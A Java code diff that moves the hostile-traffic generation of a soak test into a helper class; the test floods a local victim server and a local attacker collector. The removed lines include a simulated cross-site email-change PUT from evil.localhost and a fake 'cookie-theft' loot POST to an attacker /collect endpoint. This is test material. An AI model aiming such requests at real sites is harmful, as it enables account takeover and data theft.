@@ -30,10 +30,6 @@ public final class Soak {
     /** The whole soak stops sending at this deadline, whatever is left. */
     private static final Duration DEADLINE = Duration.ofMinutes(5);
 
-    private static final String BIG = "x".repeat(6_000);
-    private static final String LOOT =
-            "{\"scenario\":\"cookie-theft\",\"data\":{\"username\":\"alice\",\"blob\":\"" + "s".repeat(60_000) + "\"}}";
-
     /** What the soak sent, what the heap did and the largest console answers. */
     public record Figures(
             Map<Integer, Long> hostileStatuses,
@@ -128,48 +124,13 @@ public final class Soak {
     private void flood(int hostile, int loot) throws InterruptedException {
         int every = loot == 0 ? Integer.MAX_VALUE : Math.max(1, hostile / loot);
         for (int i = 0; i < hostile && System.nanoTime() < deadline; i++) {
-            send(hostileRequest(i), hostileStatuses);
+            send(HostileTraffic.request(servers.victim().port(), i), hostileStatuses);
             if (i % every == 0) {
-                send(lootPost(), lootStatuses);
+                send(HostileTraffic.lootPost(servers.attacker().port()), lootStatuses);
             }
         }
         inFlight.acquire(IN_FLIGHT);
         inFlight.release(IN_FLIGHT);
-    }
-
-    private HttpRequest hostileRequest(int i) {
-        String victim = "http://127.0.0.1:" + servers.victim().port();
-        return switch (i % 3) {
-            // As large as the server lets a request be: near 8 KB of headers.
-            case 0 ->
-                HttpRequest.newBuilder(URI.create(victim + "/api/me"))
-                        .header("User-Agent", BIG)
-                        .header("Referer", "http://evil.localhost/" + BIG.substring(0, 800))
-                        .header("Origin", "http://" + "o".repeat(200) + i + ".localhost")
-                        .header("Cookie", "a" + i + "=1; b" + i + "=2; c" + i + "=3")
-                        .build();
-            // A name nobody has, new every time.
-            case 1 ->
-                HttpRequest.newBuilder(URI.create(victim + "/profile/stranger-" + i + "-" + "n".repeat(200)))
-                        .build();
-            // What a no-cors fetch from another tab sends: a simple cross-site write.
-            default ->
-                HttpRequest.newBuilder(URI.create(victim + "/api/settings/email"))
-                        .header("Content-Type", "text/plain")
-                        .header("Origin", "http://evil.localhost")
-                        .header("Sec-Fetch-Site", "cross-site")
-                        .header("Sec-Fetch-Mode", "no-cors")
-                        .PUT(HttpRequest.BodyPublishers.ofString("{\"email\":\"mallory@evil.example\"}"))
-                        .build();
-        };
-    }
-
-    private HttpRequest lootPost() {
-        return HttpRequest.newBuilder(
-                        URI.create("http://127.0.0.1:" + servers.attacker().port() + "/collect"))
-                .header("Content-Type", "text/plain")
-                .POST(HttpRequest.BodyPublishers.ofString(LOOT))
-                .build();
     }
 
     private static Map<Integer, Long> counts(Map<Integer, AtomicLong> statuses) {
